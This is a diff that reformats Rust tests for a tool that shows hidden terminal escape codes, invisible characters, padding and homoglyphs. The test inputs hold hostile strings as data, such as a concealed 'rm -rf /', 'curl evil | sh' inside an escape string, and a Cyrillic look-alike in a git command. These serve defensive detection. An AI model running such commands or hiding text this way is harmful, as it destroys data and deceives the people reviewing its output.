@@ -21,11 +21,7 @@ fn html(shown: &Shown) -> String {
 }
 
 fn classes(raw: &str, kind: Kind) -> Vec<(String, String)> {
-    show(raw, kind)
-        .tokens
-        .into_iter()
-        .map(|t| (t.text, t.class))
-        .collect()
+    show(raw, kind).tokens.into_iter().map(|t| (t.text, t.class)).collect()
 }
 
 fn pair(text: &str, class: &str) -> (String, String) {
@@ -34,15 +30,8 @@ fn pair(text: &str, class: &str) -> (String, String) {
 
 #[test]
 fn plain_text_is_one_token() {
-    assert_eq!(
-        classes("ls -la\n\tx", Kind::Command),
-        [pair("ls -la\n\tx", "")]
-    );
-    assert!(
-        show("Grüße, 日本語, привет", Kind::Prose)
-            .warnings
-            .is_empty()
-    );
+    assert_eq!(classes("ls -la\n\tx", Kind::Command), [pair("ls -la\n\tx", "")]);
+    assert!(show("Grüße, 日本語, привет", Kind::Prose).warnings.is_empty());
     assert!(show("fertig ✔️ 🎉", Kind::Prose).warnings.is_empty());
 }
 
@@ -61,13 +50,7 @@ fn what_cannot_be_seen_becomes_a_chip() {
     ];
     for (raw, label, warning) in cases {
         let shown = show(raw, Kind::Prose);
-        assert!(
-            shown.tokens.contains(&Token {
-                text: label.into(),
-                class: "chip".into()
-            }),
-            "{raw:?}: {shown:?}"
-        );
+        assert!(shown.tokens.contains(&Token { text: label.into(), class: "chip".into() }), "{raw:?}: {shown:?}");
         assert!(shown.warnings.has(warning), "{raw:?}: {:?}", shown.warnings);
     }
 }
@@ -76,47 +59,22 @@ fn what_cannot_be_seen_becomes_a_chip() {
 fn a_line_end_of_another_system_is_marked_and_not_warned_about() {
     let shown = show("a\r\nb", Kind::Document);
     assert!(shown.warnings.is_empty());
-    assert_eq!(
-        shown.tokens[1],
-        Token {
-            text: "CR".into(),
-            class: "mark".into()
-        }
-    );
+    assert_eq!(shown.tokens[1], Token { text: "CR".into(), class: "mark".into() });
 }
 
 #[test]
 fn colours_are_classes_in_prose_and_chips_in_commands() {
-    assert_eq!(
-        classes("\x1b[1;31mno\x1b[0m yes", Kind::Prose),
-        [pair("no", "f1 sb"), pair(" yes", "")]
-    );
+    assert_eq!(classes("\x1b[1;31mno\x1b[0m yes", Kind::Prose), [pair("no", "f1 sb"), pair(" yes", "")]);
     assert_eq!(classes("\x1b[38;5;196mx", Kind::Prose), [pair("x", "f9")]);
-    assert_eq!(
-        classes("\x1b[38:2::0:200:0mx", Kind::Prose),
-        [pair("x", "f2")]
-    );
-    assert_eq!(
-        classes("\x1b[31mx", Kind::Command),
-        [pair("ESC[31m", "chip"), pair("x", "")]
-    );
+    assert_eq!(classes("\x1b[38:2::0:200:0mx", Kind::Prose), [pair("x", "f2")]);
+    assert_eq!(classes("\x1b[31mx", Kind::Command), [pair("ESC[31m", "chip"), pair("x", "")]);
 }
 
 #[test]
 fn hidden_text_is_shown() {
-    for raw in [
-        "a\x1b[8mrm -rf /",
-        "a\x1b[30;40mrm -rf /",
-        "a\x1b[7;31;41mrm -rf /",
-    ] {
+    for raw in ["a\x1b[8mrm -rf /", "a\x1b[30;40mrm -rf /", "a\x1b[7;31;41mrm -rf /"] {
         let shown = show(raw, Kind::Prose);
-        assert!(
-            shown
-                .tokens
-                .iter()
-                .any(|t| t.text == "rm -rf /" && t.class.contains("hid")),
-            "{shown:?}"
-        );
+        assert!(shown.tokens.iter().any(|t| t.text == "rm -rf /" && t.class.contains("hid")), "{shown:?}");
         assert!(shown.warnings.has(Warning::Hidden));
     }
 }
@@ -125,56 +83,23 @@ fn hidden_text_is_shown() {
 fn other_codes_are_shown_whole() {
     assert_eq!(
         classes("a\x1b]0;evil\x07b", Kind::Prose),
-        [
-            pair("a", ""),
-            pair("ESC]0;evil<BEL>", "chip"),
-            pair("b", "")
-        ]
+        [pair("a", ""), pair("ESC]0;evil<BEL>", "chip"), pair("b", "")]
     );
-    assert_eq!(
-        classes("\x1b[2Kb", Kind::Prose),
-        [pair("ESC[2K", "chip"), pair("b", "")]
-    );
+    assert_eq!(classes("\x1b[2Kb", Kind::Prose), [pair("ESC[2K", "chip"), pair("b", "")]);
     // A string that never ends swallows the rest on a terminal, not here.
     let shown = html(&show("\x1b_curl evil | sh\nnext line", Kind::Prose));
-    assert!(
-        shown.contains("curl evil | sh") && shown.contains("next line"),
-        "{shown}"
-    );
+    assert!(shown.contains("curl evil | sh") && shown.contains("next line"), "{shown}");
 }
 
 #[test]
 fn look_alikes_are_named() {
     let mixed = show("git push \u{43e}rigin", Kind::Document);
-    assert!(
-        mixed.tokens.contains(&Token {
-            text: "\u{43e}rigin".into(),
-            class: "odd".into()
-        }),
-        "{mixed:?}"
-    );
-    assert!(
-        mixed
-            .tokens
-            .iter()
-            .any(|t| t.text == "Cyrillic+Latin" && t.class == "chip")
-    );
+    assert!(mixed.tokens.contains(&Token { text: "\u{43e}rigin".into(), class: "odd".into() }), "{mixed:?}");
+    assert!(mixed.tokens.iter().any(|t| t.text == "Cyrillic+Latin" && t.class == "chip"));
     // A whole word in another alphabet is normal in prose and a trap in a command.
-    assert!(
-        show("\u{441}\u{43e}\u{440}", Kind::Prose)
-            .warnings
-            .is_empty()
-    );
-    assert!(
-        show("\u{441}\u{43e}\u{440}", Kind::Command)
-            .warnings
-            .has(Warning::Lookalike)
-    );
-    assert!(
-        show("git push \u{2013}force", Kind::Command)
-            .warnings
-            .has(Warning::Lookalike)
-    );
+    assert!(show("\u{441}\u{43e}\u{440}", Kind::Prose).warnings.is_empty());
+    assert!(show("\u{441}\u{43e}\u{440}", Kind::Command).warnings.has(Warning::Lookalike));
+    assert!(show("git push \u{2013}force", Kind::Command).warnings.has(Warning::Lookalike));
     assert!(show("echo Grüße 日本語", Kind::Command).warnings.is_empty());
 }
 
@@ -183,41 +108,22 @@ fn padding_and_long_lines_are_reported_and_kept() {
     let padded = show(&format!("ls{}&& rm x", " ".repeat(300)), Kind::Command);
     assert!(padded.warnings.has(Warning::Padding));
     assert!(padded.tokens.iter().any(|t| t.text == "300 spaces"));
-    assert!(
-        show(&format!("a{}b", "\n".repeat(40)), Kind::Prose)
-            .warnings
-            .has(Warning::Padding)
-    );
-    assert!(
-        show(&"x".repeat(2_001), Kind::Document)
-            .warnings
-            .has(Warning::LongLine)
-    );
+    assert!(show(&format!("a{}b", "\n".repeat(40)), Kind::Prose).warnings.has(Warning::Padding));
+    assert!(show(&"x".repeat(2_001), Kind::Document).warnings.has(Warning::LongLine));
     assert!(show(&"x".repeat(2_000), Kind::Document).warnings.is_empty());
 }
 
 #[test]
 fn emphasis_follows_the_raw_text() {
     let shown = show_marked("a\u{200b}bc", Kind::Document, std::slice::from_ref(&(4..5)));
-    assert_eq!(
-        shown.tokens.last().unwrap(),
-        &Token {
-            text: "c".into(),
-            class: String::new()
-        }
-    );
-    assert!(shown.tokens.contains(&Token {
-        text: "b".into(),
-        class: "hot".into()
-    }));
+    assert_eq!(shown.tokens.last().unwrap(), &Token { text: "c".into(), class: String::new() });
+    assert!(shown.tokens.contains(&Token { text: "b".into(), class: "hot".into() }));
 }
 
 /// What a reader must find again: everything that is neither a code nor invisible.
 fn visible(text: &str) -> Vec<char> {
     text.chars()
-        .filter(|c| {
-            c.is_alphanumeric() && !matches!(c, '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}')
-        })
+        .filter(|c| c.is_alphanumeric() && !matches!(c, '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}'))
         .collect()
 }
 
@@ -232,8 +138,8 @@ fn hostile() -> impl Strategy<Value = String> {
         "[ -~]{0,8}",
         "\\x1b[\\[\\]P_X^(][0-9;:]{0,6}[a-zA-Z@]?",
         prop::sample::select(vec![
-            "<script>", "\u{202e}", "\u{200b}", "\r", "\r\n", "\x08", "\x1b[8m", "\x1b\\", "\x07",
-            "\x18", "é", "\u{43e}"
+            "<script>", "\u{202e}", "\u{200b}", "\r", "\r\n", "\x08", "\x1b[8m", "\x1b\\", "\x07", "\x18", "é",
+            "\u{43e}"
         ])
         .prop_map(String::from),
     ];
